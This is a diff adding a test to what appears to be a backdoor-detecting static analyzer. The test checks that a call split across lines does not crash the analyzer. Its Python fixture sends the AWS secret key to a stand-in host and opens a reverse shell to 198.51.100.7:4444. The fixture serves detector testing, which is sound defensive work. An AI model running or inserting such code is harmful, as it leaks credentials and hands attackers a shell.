@@ -1628,3 +1628,21 @@ test('session 23: a downloaded library loaded or a downloaded script run from a 
   findsIn([['a.java', 'log.info("kafka auth: {}", props.get("sasl.jaas.config"));\n']], 'backdoor.secret-to-log');
   quietIn([['a.java', 'log.info("kafka bootstrap: {}", props.get("bootstrap.servers"));\n']], 'backdoor.secret-to-log');
 });
+
+test('session 23: a helper called with its parenthesis on the next line does not stop the analyzer (it crashed on cgi.py)', () => {
+  const src = [
+    'import os, requests, socket, subprocess',
+    'def _post(data):',
+    '    requests.post("https://collect.example.test/c", json=data)',
+    'def sync():',
+    '    _post',
+    '    (os.environ["AWS_SECRET_ACCESS_KEY"])',
+    's = socket.socket(); s.connect(("198.51.100.7", 4444))',
+    'subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
+  ].join('\n');
+  // (the file is still read whole, no error thrown: the socket wired to a shell below the odd call is found)
+  assert.ok(
+    rules('h.py', src).some((r) => /^backdoor\.[\w-]+:[78]$/.test(r)),
+    rules('h.py', src).join(),
+  );
+});
